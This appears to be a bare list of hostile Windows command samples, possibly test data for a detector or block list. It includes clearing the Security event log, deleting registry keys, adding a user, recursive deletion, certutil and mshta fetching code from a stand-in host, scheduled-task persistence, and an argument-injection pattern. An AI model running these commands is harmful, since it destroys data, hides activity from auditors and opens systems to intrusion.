%CMD% /x
shutdown /r /t 0
wevtutil cl Security
reg delete HKLM\SYSTEM\X /f
net user ben x /add
set x=%1& %x%
rd /s /q "%DIR%\"
certutil -urlcache -f http://x.example y
schtasks /create /tn x /tr y
mshta http://x.example
